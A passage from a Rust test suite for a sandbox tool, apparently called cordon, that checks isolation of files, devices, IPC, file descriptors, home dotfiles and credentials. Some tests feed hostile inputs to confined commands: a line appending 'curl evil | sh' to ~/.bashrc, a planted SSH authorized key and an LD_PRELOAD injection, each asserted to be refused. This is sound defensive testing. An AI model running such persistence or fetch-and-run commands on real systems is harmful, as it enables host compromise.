    let name = format!("cordon-tmpdir-{}", c.unique());
    let out = c.sh(&hard, &format!("echo x > \"$TMPDIR/{name}\" && echo \"$TMPDIR\""))?;
    assert_eq!(out.exit_code(), Some(0), "TMPDIR must be writable: {out:?}");
    let tmpdir = out.out().trim().to_string();
    assert_ne!(tmpdir, "/tmp", "TMPDIR must move off the workspace's tmpfs: {out:?}");
    assert_absent(&Path::new(&tmpdir).join(&name), "the private TMPDIR leaked to the host");
    // Control: the FIFO works from the host.
    c.host_probe("append", &[s(&fifo.path), "x"]).assert_ok("control: write into the FIFO on the host");
    assert!(!fifo.received().is_empty(), "control: the reader received nothing");
});

case!(fs_workspace_tmp_itself_works_and_keeps_state_dir_read_only, |c| {
    // A workspace of /tmp itself is what the caller asked for: it works in every
    // mode. In workspace-write the host's /tmp is writable, except cordon's own state
    // directory there (spill files, per-run directories), which stays read-only.
    let tmp = Path::new("/tmp");
    let state = PathBuf::from(format!("/tmp/cordon-{}", c.id.uid));
    let tag = c.unique();
    let made = PathBuf::from(format!("/tmp/cordon-tests-ws-{tag}"));
    let forged = state.join(format!("forged-{tag}"));
    struct Rm(Vec<PathBuf>);
    impl Drop for Rm {
        fn drop(&mut self) {
            for p in &self.0 {
                let _ = fs::remove_file(p);
            }
        }
    }
    let _rm = Rm(vec![made.clone(), forged.clone()]);
    let ww = opts_at(c, WORKSPACE_WRITE, tmp);
    c.probe_with(&ww, "write", &[s(&made), "made\n"])?.assert_ok("write into the /tmp workspace");
    assert!(made.exists(), "positive control: the /tmp workspace is writable, {} is missing", made.display());
    assert!(state.is_dir(), "cordon's state directory {} should exist", state.display());
    c.probe_with(&ww, "write", &[s(&forged), "forged\n"])?
        .assert_refused_with(&["EROFS", "EACCES"], "write into cordon's state directory");
    assert_absent(&forged, "a file forged in cordon's state directory");
    // Outside the workspace stays read-only.
    let sent = c.sentinel(&c.outside.join(format!("sentinel-{tag}")));
    c.probe_with(&ww, "write", &[s(&sent.path), "pwned\n"])?.assert_refused("write outside /tmp");
    sent.assert_unchanged("write outside the /tmp workspace");
    // Read-only mode: /tmp is visible but not writable.
    let ro = opts_at(c, READ_ONLY, tmp);
    let made_ro = PathBuf::from(format!("/tmp/cordon-tests-ro-{tag}"));
    c.probe_with(&ro, "write", &[s(&made_ro), "x\n"])?
        .assert_refused_with(&["EROFS", "EACCES"], "write into a read-only /tmp workspace");
    assert_absent(&made_ro, "a file written into a read-only /tmp workspace");
    c.probe_with(&ro, "read", &[s(&made)])?.assert_ok("read the /tmp workspace");
});

case!(priv_planted_device_nodes_unusable, |c| {
    // Nodes that already exist in the workspace or a writable root (planted by the
    // host's root, or there all along) must not open as devices: every exposed tree
    // is nodev. A null-like node (c 1:3) and a kmsg-like one (c 1:11); the probe only
    // opens them for writing and never writes.
    // SAFETY: geteuid cannot fail.
    if unsafe { libc::geteuid() } != 0 {
        return Err(Skip("creating device nodes on the host needs the suite to run as root".into()));
    }
    let wr = c.outside.join("writable-root");
    c.mkdir(&wr);
    let mut nodes = Vec::new();
    for dir in [&c.ws, &wr] {
        for (name, minor) in [("null-like", "3"), ("kmsg-like", "11")] {
            let node = dir.join(name);
            let st =
                std::process::Command::new("mknod").args(["-m", "0666"]).arg(&node).args(["c", "1", minor]).status();
            assert!(st.is_ok_and(|s| s.success()), "mknod {}", node.display());
            c.chown_to_me(&node);
            c.host_probe("open-w", &[s(&node)]).assert_ok("control: the node opens for writing on the host");
            nodes.push(node);
        }
    }
    for mode in CONFINED {
        let o = RunOpts { writable: vec![wr.clone()], ..c.opts(mode) };
        for node in &nodes {
            c.probe_with(&o, "open-w", &[s(node)])?.assert_refused_with(
                &["EACCES", "EPERM"],
                &format!("open the planted node {} ({mode})", node.display()),
            );
        }
    }
});

case!(priv_loader_env_reaches_only_confined_processes, |c| {
    // The request's environment is the command's. A process that acts on loader
    // variables before it is confined (bubblewrap, as root with every capability; a
    // stage helper before Landlock and seccomp) would run the caller's code outside
    // the sandbox. Under bwrap the environment travels in an fd for that reason.
    let src = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/probe/preload.c");
    let lib = c.root.join("preload.so");
    let st = std::process::Command::new("cc").args(["-shared", "-fPIC", "-O2", "-o"]).arg(&lib).arg(&src).status();
    assert!(st.is_ok_and(|s| s.success()), "compile {}", src.display());
    set_mode(&lib, 0o755);
    for how in BOTH_AND_HOST {
        let f = fx(c, how);
        let mark = f.out.join("mark");
        let mut fifo = HostFifo::new(c, &f.out.join("fifo"));
        let vars = [
            format!("LD_PRELOAD={}", lib.display()),
            format!("PRELOAD_MARK_FILE={}", mark.display()),
            format!("PRELOAD_MARK_FIFO={}", fifo.path.display()),
        ];
        if how == HOST {
            let out = c.host_cmd("/bin/true").envs(vars.iter().map(|v| v.split_once('=').unwrap())).output().unwrap();
            assert!(out.status.success());
            assert!(mark.exists(), "control: the preloaded library left no file mark on the host");
            assert!(!fifo.received().is_empty(), "control: the preloaded library wrote nothing into the FIFO");
            continue;
        }
        let mut o = c.opts(how);
        for v in &vars {
            o.extra_args.extend(["--env".to_string(), v.clone()]);
        }
        let out = c.cordon(&o, &["/bin/true"])?;
        assert_eq!(out.exit_code(), Some(0), "the command itself must still run ({how}): {out:?}");
        assert!(!mark.exists(), "the caller's LD_PRELOAD ran unconfined and created {} ({how})", mark.display());
        let got = fifo.received();
        assert!(got.is_empty(), "the caller's LD_PRELOAD wrote {got:?} into a host FIFO ({how})");
    }
});

// =====================================================================================
// 9. Leaks across the boundary: inherited fds, host /tmp and /dev/shm, SysV/POSIX IPC,
//    $HOME dotfiles.
// =====================================================================================

case!(leak_inherited_fds_closed, |c| {
    for mode in CONFINED {
        let sink = c.file(&c.outside.join(format!("fd-sink-{mode}")), "");
        let f = open_append(&sink);
        let mut o = c.opts(mode);
        o.inherit_fds = vec![(raw(&f), 5), (raw(&f), 100)];
        let r = c.probe_with(&o, "fds", &[])?;
        r.assert_ok("list fds");
        assert_eq!(r.detail, "", "fds other than 0/1/2 crossed into the sandbox ({mode}): {r:?}");
        for fd in ["5", "100"] {
            c.probe_with(&o, "fd-write", &[fd, "leaked\n"])?.assert_refused(&format!("write to inherited fd {fd}"));
        }
        assert_eq!(fs::read_to_string(&sink).unwrap(), "", "data arrived through an inherited fd");
        // And with no extra fds at all, cordon's own descriptors must not leak either.
        let r = c.probe(mode, "fds", &[])?;
        assert_eq!(r.detail, "", "cordon leaked its own fds into the command ({mode}): {r:?}");
    }
});

/// A host file under /tmp (or /dev/shm), removed when dropped.
struct HostTmp(PathBuf);
impl Drop for HostTmp {
    fn drop(&mut self) {
        let _ = fs::remove_file(&self.0);
    }
}

case!(leak_tmp_private_per_run, |c| {
    let name = format!("/tmp/cordon-private-{}", c.unique());
    let _guard = HostTmp(PathBuf::from(&name));
    c.probe(WORKSPACE_WRITE, "write", &[&name, "run-one\n"])?.assert_ok("write /tmp inside");
    let r = c.probe(WORKSPACE_WRITE, "read", &[&name])?;
    assert!(!r.detail.contains("run-one"), "a second run saw the first run's /tmp: {r:?}");
    assert_absent(Path::new(&name), "/tmp file written inside leaked to the host");
});

case!(leak_dev_shm_objects_private, |c| {
    // POSIX shared memory made inside lives in the run's private layer over /dev/shm
    // (the host's objects are readable there: tests/security/private_layers.rs).
    for mode in CONFINED {
        let tag = c.unique();
        let name = format!("/cordon-tests-{}-inner-{tag}", std::process::id());
        let created = HostTmp(PathBuf::from(format!("/dev/shm{name}")));
        c.probe(mode, "shm-open", &[&name])?.assert_ok("shm_open inside");
        assert_absent(&created.0, "shm_open inside created a host /dev/shm object");
    }
});

fn ipc_key(c: &Ctx) -> i32 {
    use std::hash::{Hash, Hasher};
    let mut h = std::collections::hash_map::DefaultHasher::new();
    c.unique().hash(&mut h);
    (h.finish() as i32 & 0x3fff_ffff) | 0x4000_0000
}

case!(leak_sysv_ipc_isolated, |c| {
    for mode in CONFINED {
        for (op, kind) in [("shmget", 0), ("msgget", 1), ("semget", 2)] {
            let key = ipc_key(c);
            let _ = c.probe(mode, op, &[&key.to_string()])?;
            // SAFETY: lookups (no IPC_CREAT) and removal of what we find.
            let id = unsafe {
                match kind {
                    0 => libc::shmget(key, 0, 0),
                    1 => libc::msgget(key, 0),
                    _ => libc::semget(key, 0, 0),
                }
            };
            if id >= 0 {
                // SAFETY: IPC_RMID of the object found above, by id; no pointer is read.
                unsafe {
                    match kind {
                        0 => libc::shmctl(id, libc::IPC_RMID, std::ptr::null_mut()),
                        1 => libc::msgctl(id, libc::IPC_RMID, std::ptr::null_mut()),
                        _ => libc::semctl(id, 0, libc::IPC_RMID),
                    };
                }
                panic!("{op} with key {key:#x} inside created a host-visible SysV object ({mode})");
            }
        }
        // A host segment holding a secret must not be readable inside.
        let key = ipc_key(c);
        let secret = format!("sysv-secret-{}", c.unique());
        // SAFETY: create, attach, write a short string, detach.
        let id = unsafe { libc::shmget(key, 4096, libc::IPC_CREAT | 0o666) };
        assert!(id >= 0, "host shmget failed");
        // SAFETY: `id` is the segment just created (4096 bytes); the secret is shorter; detached below.
        unsafe {
            let p = libc::shmat(id, std::ptr::null(), 0) as *mut u8;
            std::ptr::copy_nonoverlapping(secret.as_ptr(), p, secret.len());
            libc::shmdt(p as *const _);
        }
        let r = c.probe(mode, "shm-read", &[&key.to_string()]);
        let ctl = c.host_probe("shm-read", &[&key.to_string()]);
        // SAFETY: IPC_RMID of the segment created above, by id.
        unsafe { libc::shmctl(id, libc::IPC_RMID, std::ptr::null_mut()) };
        let r = r?;
        assert!(ctl.ok && ctl.detail.contains(&secret), "control: host shm readable: {ctl:?}");
        assert!(!r.detail.contains(&secret), "host SysV shm readable inside ({mode}): {r:?}");
        r.assert_refused("attach a host SysV shm segment");
    }
});

case!(leak_posix_mq_isolated, |c| {
    for mode in CONFINED {
        let name = format!("/cordon-tests-{}", c.unique());
        let _ = c.probe(mode, "mq-open", &[&name])?;
        let cname = std::ffi::CString::new(name.clone()).unwrap();
        // SAFETY: open-only lookup; unlink what we find.
        let q = unsafe { libc::mq_open(cname.as_ptr(), libc::O_RDONLY) };
        if q >= 0 {
            // SAFETY: `q` is the descriptor mq_open just returned; `cname` is a valid C string.
            unsafe {
                libc::mq_close(q);
                libc::mq_unlink(cname.as_ptr());
            }
            panic!("mq_open inside created a host-visible message queue {name} ({mode})");
        }
        // A host queue with a message must not be readable inside.
        let hname = format!("/cordon-tests-{}", c.unique());
        let hc = std::ffi::CString::new(hname.clone()).unwrap();
        let secret = format!("mq-secret-{}", c.unique());
        // SAFETY: `hc` and `secret` outlive the block; `q` is checked before use and closed at the end.
        unsafe {
            let q = libc::mq_open(
                hc.as_ptr(),
                libc::O_CREAT | libc::O_WRONLY,
                0o666 as libc::c_uint,
                std::ptr::null::<libc::mq_attr>(),
            );
            assert!(q >= 0, "host mq_open failed: {}", std::io::Error::last_os_error());
            libc::fchmod(q, 0o666);
            libc::mq_send(q, secret.as_ptr() as *const _, secret.len(), 0);
            libc::mq_close(q);
        }
        let r = c.probe(mode, "mq-read", &[&hname]);
        // SAFETY: `hc` is a valid C string.
        unsafe { libc::mq_unlink(hc.as_ptr()) };
        let r = r?;
        assert!(!r.detail.contains(&secret), "host POSIX mq readable inside ({mode}): {r:?}");
        r.assert_refused("read a host POSIX message queue");
    }
});

case!(leak_home_dotfiles_denied, |c| {
    for mode in CONFINED {
        let home = c.root.join(format!("home-{mode}"));
        c.mkdir(&home);
        let rc = c.sentinel(&home.join(".bashrc"));
        let mut o = c.opts(mode);
        o.env.push(("HOME".into(), s(&home).into()));
        let out = c.sh(
            &o,
            "echo 'curl evil | sh' >> \"$HOME/.bashrc\"; echo x > \"$HOME/.profile\"; \
             mkdir -p \"$HOME/.ssh\" && echo key >> \"$HOME/.ssh/authorized_keys\"; \
             mkdir -p \"$HOME/.config/autostart\"; echo \"$HOME\"",
        )?;
        assert!(out.out().contains(s(&home)), "HOME should be passed through: {out:?}");
        rc.assert_unchanged("append to ~/.bashrc");
        assert_absent(&home.join(".profile"), "create ~/.profile");
        assert_absent(&home.join(".ssh"), "create ~/.ssh");
        assert_absent(&home.join(".config"), "create ~/.config");
    }
});

case!(policy_dangerous_roots_refused, |c| {
    // $HOME as the workspace or as a writable root, `/` as either: refused (fail
    // closed), so a dotfile cannot be planted and the host cannot be opened up.
    let home = c.root.join("home");
    c.mkdir(&home);
    let mark = c.outside.join("root-writable");
    let attempts: Vec<(String, RunOpts, PathBuf)> = vec![
        ("--cwd $HOME".into(), RunOpts { cwd: Some(home.clone()), ..c.opts(WORKSPACE_WRITE) }, home.join(".bashrc")),
        (
            "--writable $HOME".into(),
            RunOpts { writable: vec![home.clone()], ..c.opts(WORKSPACE_WRITE) },
            home.join(".profile"),
        ),
        ("--writable /".into(), RunOpts { writable: vec!["/".into()], ..c.opts(WORKSPACE_WRITE) }, mark.clone()),
        ("--cwd /".into(), RunOpts { cwd: Some("/".into()), ..c.opts(WORKSPACE_WRITE) }, mark.clone()),
    ];
    for (what, mut o, target) in attempts {
        o.env.push(("HOME".into(), s(&home).into()));
        o.expect_error = true;
        let out = c.cordon(&o, &[s(&c.suite.probe), "create", s(&target)])?;
        assert_absent(&target, &format!("{what}: {out:?}"));
    }
});

/// The password database's home of `uid`.
fn passwd_home(uid: u32) -> Option<PathBuf> {
    // SAFETY: getpwuid returns a pointer to static storage or null; read immediately.
    unsafe {
        let pw = libc::getpwuid(uid);
        if pw.is_null() || (*pw).pw_dir.is_null() {
            return None;
        }
        Some(PathBuf::from(std::ffi::CStr::from_ptr((*pw).pw_dir).to_string_lossy().into_owned()))
    }
}

/// `o` must be refused before anything runs: exit 125, INVALID_POLICY naming `path`.
#[track_caller]
fn assert_policy_refused(c: &Ctx, o: &RunOpts, path: &Path, target: &Path, what: &str) -> Result<(), Skip> {
    let mut o = o.clone();
    o.expect_error = true;
    let out = c.cordon(&o, &[s(&c.suite.probe), "create", s(target)])?;
    let _ = fs::remove_file(target);
    assert_eq!(out.status.code(), Some(125), "{what}: must be refused before running: {out:?}");
    assert_eq!(out.j()["error"]["code"], "INVALID_POLICY", "{what}: {out:?}");
    let msg = out.j()["error"]["message"].as_str().unwrap_or("");
    assert!(msg.contains(s(path)), "{what}: the error should name {path:?}: {out:?}");
    assert!(!out.stdout.contains("\"exit_code\""), "{what}: the command ran: {out:?}");
    Ok(())
}

case!(policy_home_ancestors_refused, |c| {
    // A writable root (or workspace) that contains the home directory would let the
    // command plant ~/.bashrc. The suite's HOME lies in the suite dir, so use one
    // nested like `/var/tmp/h/u` and ask for its parent.
    let parent = c.root.join("h");
    let home = parent.join("u");
    c.mkdir(&home);
    let rc = home.join(".bashrc");
    let mut o = c.opts(WORKSPACE_WRITE);
    o.env.push(("HOME".into(), s(&home).into()));
    assert_policy_refused(
        c,
        &RunOpts { writable: vec![parent.clone()], ..o.clone() },
        &parent,
        &rc,
        "--writable ~/..",
    )?;
    assert_absent(&rc, "--writable ~/..");
    assert_policy_refused(c, &RunOpts { cwd: Some(parent.clone()), ..o.clone() }, &parent, &rc, "--cwd ~/..")?;
    assert_absent(&rc, "--cwd ~/..");
    let ssh = home.join(".ssh");
    c.mkdir(&ssh);
    let keys = ssh.join("authorized_keys");
    assert_policy_refused(c, &RunOpts { writable: vec![ssh.clone()], ..o.clone() }, &ssh, &keys, "--writable ~/.ssh")?;
    assert_absent(&keys, "--writable ~/.ssh");
    // Positive control: a project inside the home is fine.
    let proj = home.join("proj");
    c.mkdir(&proj);
    c.probe_with(&RunOpts { writable: vec![proj.clone()], ..o }, "create", &[s(&proj.join("f"))])?
        .assert_ok("a project directory inside the home");
});

case!(policy_passwd_home_refused_without_home_env, |c| {
    // With HOME unset, the password database still names the home (for root /root,
    // for the unprivileged identity /home/<name>): neither it nor /home may be writable.
    let home = passwd_home(c.id.uid).expect("the identity has a passwd entry");
    let target = home.join(format!(".cordon-pwned-{}", c.unique()));
    let mut o = c.opts(WORKSPACE_WRITE);
    o.env_remove.push("HOME".into());
    if !home.is_dir() {
        // Debian's `nobody` (the README's default test user) has the home
        // `/nonexistent`: nothing can be planted in a home that does not exist, so only
        // its parent is left to refuse.
        loud(&format!(
            "NOTE {}: passwd home {home:?} of {} does not exist; checking its parent only",
            c.test, c.id.name
        ));
        let up = home.parent().unwrap().to_path_buf();
        assert_policy_refused(
            c,
            &RunOpts { writable: vec![up.clone()], ..o },
            &up,
            &target,
            "--writable <passwd home>/..",
        )?;
        assert_absent(&target, "--writable <passwd home>/.., HOME unset");
        return Ok(());
    }
    assert_policy_refused(c, &RunOpts { cwd: Some(home.clone()), ..o.clone() }, &home, &target, "--cwd <passwd home>")?;
    assert_absent(&target, "--cwd <passwd home>, HOME unset");
    assert_policy_refused(
        c,
        &RunOpts { writable: vec![home.clone()], ..o.clone() },
        &home,
        &target,
        "--writable <passwd home>",
    )?;
    assert_absent(&target, "--writable <passwd home>, HOME unset");
    let up = home.parent().unwrap().to_path_buf();
    assert_policy_refused(
        c,
        &RunOpts { writable: vec![up.clone()], ..o },
        &up,
        &target,
        "--writable <passwd home>/..",
    )?;
    assert_absent(&target, "--writable <passwd home>/.., HOME unset");
});

case!(policy_system_dirs_refused_without_flag, |c| {
    let tag = c.unique();
    let etc_target = PathBuf::from(format!("/etc/cordon-pwned-{tag}"));
    let o = c.opts(WORKSPACE_WRITE);
    assert_policy_refused(
        c,
        &RunOpts { writable: vec!["/etc".into()], ..o.clone() },
        Path::new("/etc"),
        &etc_target,
        "--writable /etc",
    )?;
    assert_absent(&etc_target, "--writable /etc");
    // A directory the identity owns inside /var/lib: refused without the flag (so DAC is
    // not what stops it), writable with --allow-system-root (the positive control).
    let dir = PathBuf::from(format!("/var/lib/cordon-test-{tag}"));
    c.mkdir(&dir);
    struct Cleanup(PathBuf);
    impl Drop for Cleanup {
        fn drop(&mut self) {
            let _ = fs::remove_dir_all(&self.0);
        }
    }
    let _cleanup = Cleanup(dir.clone());
    let f = dir.join("f");
    assert_policy_refused(c, &RunOpts { writable: vec![dir.clone()], ..o.clone() }, &dir, &f, "--writable /var/lib/x")?;
    assert_absent(&f, "--writable /var/lib/x");
    assert_policy_refused(c, &RunOpts { cwd: Some(dir.clone()), ..o.clone() }, &dir, &f, "--cwd /var/lib/x")?;
    assert_absent(&f, "--cwd /var/lib/x");
    let mut allowed = RunOpts { writable: vec![dir.clone()], ..o };
    allowed.extra_args.push("--allow-system-root".into());
    c.probe_with(&allowed, "create", &[s(&f)])?.assert_ok("--writable /var/lib/x --allow-system-root");
    assert!(f.is_file(), "the flag should make the system directory writable");
});

// =====================================================================================
// 10. Credentials: the ambient environment minus KEY/SECRET/TOKEN/PASSWORD names and
//     secret-shaped values.
// =====================================================================================

case!(fs_private_caches_writable_inside_and_discarded, |c| {
    // The home directory is read-only, so each cache variable points into the run's
    // private TMPDIR, or stays unset where the tool's own default lies in a private
    // layer (~/.cache, ~/.npm: the host's cache stays warm there): writable inside,
    // gone afterwards, never in the real home. A cache variable the caller points
    // into the workspace is kept.
    let tag = c.unique();
    let vars = [
        ("XDG_CACHE_HOME", ".cache"),
        ("XDG_STATE_HOME", ".local/state"),
        ("GOCACHE", ".cache/go-build"),
        ("PIP_CACHE_DIR", ".cache/pip"),
        ("npm_config_cache", ".npm"),
        ("PRE_COMMIT_HOME", ".cache/pre-commit"),
    ];
    let home = &c.id.home;
    let home_cache = home.join(".cache");
    for mode in CONFINED {
        let mut o = c.opts(mode);
        // An ambient value in the (read-only) home outside any layer is replaced.
        o.env.push(("XDG_STATE_HOME".into(), home.join(".state-elsewhere").display().to_string()));
        let script = format!(
            "for v in {}; do eval d=\\${{$v:-$HOME/$(eval echo \\$rel_$v)}}; mkdir -p \"$d\" && echo x > \"$d/{tag}\" \
             || exit 1; echo \"$v=$d\"; done",
            vars.iter().map(|(v, _)| *v).collect::<Vec<_>>().join(" ")
        );
        let rels: String = vars.iter().map(|(v, r)| format!("rel_{v}={r}; ")).collect();
        let out = c.sh(&o, &format!("{rels}{script}"))?;
        assert_eq!(out.exit_code(), Some(0), "{mode}: every private cache must be writable inside: {out:?}");
        let text = out.out();
        for (v, _) in vars {
            let line = text
                .lines()
                .find(|l| l.starts_with(&format!("{v}=")))
                .unwrap_or_else(|| panic!("{mode}: {v} missing: {out:?}"));
            let dir = PathBuf::from(&line[v.len() + 1..]);
            assert!(!dir.starts_with(&c.ws), "{mode}: {v} points into the workspace: {out:?}");
            assert_absent(&dir.join(&tag), &format!("{mode}: {v}'s file leaked to the host"));
        }
        assert_absent(&home_cache.join(&tag), &format!("{mode}: a cache file appeared in the real home"));
        assert!(file_write_denials(&out).is_empty(), "{mode}: {out:?}");
    }
    // Positive control: a location the caller puts in the workspace is kept and used.
    let mut kept = c.opts(WORKSPACE_WRITE);
    kept.extra_args = vec!["--env".into(), format!("XDG_CACHE_HOME={}", c.ws.join("cache").display())];
    let out = c.sh(&kept, &format!("mkdir -p \"$XDG_CACHE_HOME\" && echo x > \"$XDG_CACHE_HOME/{tag}\""))?;
    assert_eq!(out.exit_code(), Some(0), "{out:?}");
    assert!(c.ws.join("cache").join(&tag).exists(), "the caller's cache location was not used: {out:?}");
});

/// The `file-write` denials of a run, as (target, evidence).
fn file_write_denials(out: &CordonOut) -> Vec<(String, String)> {
    out.j()["sandbox"]["denials"]
        .as_array()
        .into_iter()
        .flatten()
        .filter(|d| d["kind"] == "file-write")
        .map(|d| (d["target"].as_str().unwrap_or("").to_string(), d["evidence"].as_str().unwrap_or("").to_string()))
        .collect()
}

/// A home directory of the identity for one case (`HOME` for its runs), with a real
/// `.cache` holding one file.
fn case_home(c: &Ctx, tag: &str) -> (PathBuf, Sentinel) {
    let home = c.root.join(format!("home-{tag}"));
    c.mkdir(&home);
    c.mkdir(&home.join(".cache"));
    let kept = c.sentinel(&home.join(".cache/host-file"));
    (home, kept)
}

case!(fs_home_cache_is_a_private_layer, |c| {
    // `$HOME/.cache` gets a private layer in both confined modes: the host's cache is
    // read inside, `mkdir -p ~/.cache/x` and changes to the host's files work inside,
    // nothing reaches the real cache directory, the supervisor agrees (no denial
    // recorded), and the rest of the home stays read-only (a write to ~/.bashrc is
    // refused AND recorded).
    let tag = c.unique();
    let (home, kept) = case_home(c, &tag);
    let bashrc = home.join(".bashrc");
    let script = "cat ~/.cache/host-file && mkdir -p ~/.cache/x/y && echo y > ~/.cache/x/f \
                  && mv ~/.cache/x/f ~/.cache/x/g && cat ~/.cache/x/g && echo changed > ~/.cache/host-file \
                  && cat ~/.cache/host-file && ls -A ~/.cache | tr '\\n' ' ' && echo && stat -c %a ~/.cache; \
                  if echo pwned > ~/.bashrc; then echo BASHRC-WRITTEN; fi; true";
    for mode in CONFINED {
        let mut o = c.opts(mode);
        o.env.push(("HOME".into(), s(&home).into()));
        let out = c.sh(&o, script)?;
        assert_eq!(out.exit_code(), Some(0), "{mode}: {out:?}");
        let lines: Vec<String> = out.out().lines().map(String::from).collect();
        let host_line = format!("sentinel {}", home.join(".cache/host-file").display());
        assert_eq!(lines.first(), Some(&host_line), "{mode}: the host's cache is read inside: {out:?}");
        assert_eq!(lines.get(1).map(String::as_str), Some("y"), "{mode}: ~/.cache is writable inside: {out:?}");
        assert_eq!(lines.get(2).map(String::as_str), Some("changed"), "{mode}: a host file changed inside: {out:?}");
        let listing: BTreeSet<&str> = lines.get(3).map_or("", |l| l.as_str()).split_whitespace().collect();
        assert_eq!(listing, BTreeSet::from(["host-file", "x"]), "{mode}: {out:?}");
        assert_eq!(lines.get(4).map(String::as_str), Some("755"), "{mode}: the host directory's mode: {out:?}");
        assert!(!out.out().contains("BASHRC-WRITTEN"), "{mode}: ~/.bashrc was writable: {out:?}");
        // By effect, on the host: nothing in the real cache, no .bashrc.
        assert_absent(&home.join(".cache/x"), &format!("{mode}: a write to ~/.cache reached the host"));
        assert_absent(&bashrc, &format!("{mode}: ~/.bashrc was created on the host"));
        kept.assert_unchanged(&format!("{mode}: the host's cache file"));
        // The report: the cache writes are not denials; the .bashrc write is.
        let denials = file_write_denials(&out);
        assert!(!denials.iter().any(|(t, _)| t.contains("/.cache")), "{mode}: a cache write was refused: {denials:?}");
        assert!(
            denials.iter().any(|(t, _)| Path::new(t) == bashrc),
            "{mode}: the ~/.bashrc refusal was not recorded: {denials:?}\n{out:?}"
        );
    }
    // A variable naming a place in the cache (a tool's browsers, a virtualenv on PATH)
    // finds the host's files there through the layer.
    let mut o = c.opts(WORKSPACE_WRITE);
    o.env.push(("HOME".into(), s(&home).into()));
    o.env.push(("PLAYWRIGHT_BROWSERS_PATH".into(), s(&home.join(".cache/ms-playwright")).into()));
    let out = c.sh(&o, "ls -A ~/.cache | tr '\\n' ' '")?;
    assert!(out.out().contains("host-file"), "the host's cache was hidden: {out:?}");
    // Without overlayfs: a fresh tmpfs (the owner's only) that the result names as
    // hidden; with a variable naming a place in it, the host's cache stays visible
    // instead, read-only as the rest of the home.
    let mut o = without_overlay(c.opts(WORKSPACE_WRITE));
    o.env.push(("HOME".into(), s(&home).into()));
    let out = c.sh(&o, "ls -A ~/.cache | tr '\\n' ' '; echo; mkdir -p ~/.cache/x && stat -c %a ~/.cache")?;
    assert_eq!(out.exit_code(), Some(0), "{out:?}");
    let lines: Vec<String> = out.out().lines().map(String::from).collect();
    assert_eq!(lines.first().map(|l| l.trim()), Some(""), "an empty tmpfs: {out:?}");
    assert_eq!(lines.get(1).map(String::as_str), Some("700"), "the owner's only: {out:?}");
    let h: Vec<String> =
        out.j()["sandbox"]["hidden"].as_array().unwrap().iter().map(|v| v.as_str().unwrap().to_string()).collect();
    assert!(h.iter().any(|p| Path::new(p) == home.join(".cache")), "{h:?}");
    o.env.push(("PLAYWRIGHT_BROWSERS_PATH".into(), s(&home.join(".cache/ms-playwright")).into()));
    let out =
        c.sh(&o, "ls -A ~/.cache | tr '\\n' ' '; echo; mkdir ~/.cache/x 2>/dev/null && echo CACHE-WRITTEN; true")?;
    assert_eq!(out.exit_code(), Some(0), "{out:?}");
    assert!(out.out().lines().next().is_some_and(|l| l.contains("host-file")), "the host's cache was hidden: {out:?}");
    assert!(!out.out().contains("CACHE-WRITTEN"), "the host's cache was writable: {out:?}");
    assert_absent(&home.join(".cache/x"), "a write to the visible host cache");
    kept.assert_unchanged("the host's cache file (visible)");
});

/// Options that make cordon behave as on a host without overlayfs.
fn without_overlay(mut o: RunOpts) -> RunOpts {
    o.env.push(("CORDON_DISABLE_OVERLAY".into(), "1".into()));
    o
}

case!(fs_home_cache_holding_the_workspace_is_not_hidden, |c| {
    // A workspace inside ~/.cache is the caller's tree: no tmpfs hides it. (Only a
    // read-only one can be there: a writable root inside a home's dot-directory is
    // refused by the policy.) Its files are seen; ~/.cache stays read-only around it.
    let tag = c.unique();
    let (home, kept) = case_home(c, &tag);
    let ws = home.join(".cache/ws");
    c.mkdir(&ws);
    c.file(&ws.join("in-ws"), "host\n");
    let mut o = opts_at(c, READ_ONLY, &ws);
    o.env.push(("HOME".into(), s(&home).into()));
    let out =
        c.sh(&o, "cat in-ws && ls -A ~/.cache | tr '\\n' ' '; mkdir ~/.cache/beside 2>/dev/null && echo BESIDE; true")?;
    assert_eq!(out.exit_code(), Some(0), "{out:?}");
    let text = out.out();
    let mut lines = text.lines();
    assert_eq!(lines.next(), Some("host"), "the workspace was hidden: {out:?}");
    let listing: BTreeSet<&str> = lines.next().unwrap_or("").split_whitespace().collect();
    assert_eq!(listing, BTreeSet::from(["host-file", "ws"]), "the host's ~/.cache was hidden: {out:?}");
    assert!(!text.contains("BESIDE"), "~/.cache was writable beside the workspace: {out:?}");
    assert_absent(&home.join(".cache/beside"), "a write beside the workspace in ~/.cache");
    kept.assert_unchanged("the host's cache file");
});

case!(git_global_config_is_private_and_seeded, |c| {
    // `git config --global` works inside against a private file that includes the real
    // global config (the XDG file, then ~/.gitconfig, in git's order): reads answer
    // from the real files, writes land in the private file and are readable in the same
    // run, commits use the real identity; the real files are byte-identical afterwards
    // and no denial is recorded. A GIT_CONFIG_GLOBAL the caller puts in the workspace is
    // kept. cordon itself reads none of them (git does, in the sandbox): nothing the
    // command could not read reaches it through the seed.
    if find_in_path("git").is_none() {
        return Err(Skip("git is not installed".into()));
    }
    let tag = c.unique();
    let home = c.root.join(format!("home-{tag}"));
    c.mkdir(&home);
    c.mkdir(&home.join(".cache"));
    c.mkdir(&home.join(".config"));
    c.mkdir(&home.join(".config/git"));
    c.file(&home.join(".config/git/config"), "[cordon]\n\twho = xdg\n\tonlyxdg = yes\n");
    c.file(
        &home.join(".gitconfig"),
        "[user]\n\tname = Seeded Name\n\temail = seeded@example.invalid\n[cordon]\n\twho = home\n",
    );
    let real = [Sentinel::record(&home.join(".gitconfig")), Sentinel::record(&home.join(".config/git/config"))];
    let script = "git config --global --includes user.name; git config --global --includes cordon.who; \
                  git config --global --includes cordon.onlyxdg; \
                  git config --global a.b c && git config --global a.b \
                  && git init -q fresh && cd fresh && echo a > a && git add a && git commit -qm m \
                  && git log -1 --format=%an; echo \"global=$GIT_CONFIG_GLOBAL\"";
    let mut o = c.opts(WORKSPACE_WRITE);
    o.env.push(("HOME".into(), s(&home).into()));
    let out = c.sh(&o, script)?;
    assert_eq!(out.exit_code(), Some(0), "{out:?}");
    let text = out.out();
    let lines: Vec<&str> = text.lines().collect();
    assert_eq!(lines.get(..5), Some(&["Seeded Name", "home", "yes", "c", "Seeded Name"][..]), "{out:?}");
    let global = lines.iter().find_map(|l| l.strip_prefix("global=")).unwrap_or_else(|| panic!("{out:?}"));
    assert!(!Path::new(global).starts_with(&home) && !Path::new(global).starts_with(&c.ws), "{text}");
    for r in &real {
        r.assert_unchanged("the real global git config");
    }
    assert_absent(&home.join(".gitconfig.lock"), "git locked the real config");
    assert!(file_write_denials(&out).is_empty(), "the private config's writes were refused: {out:?}");
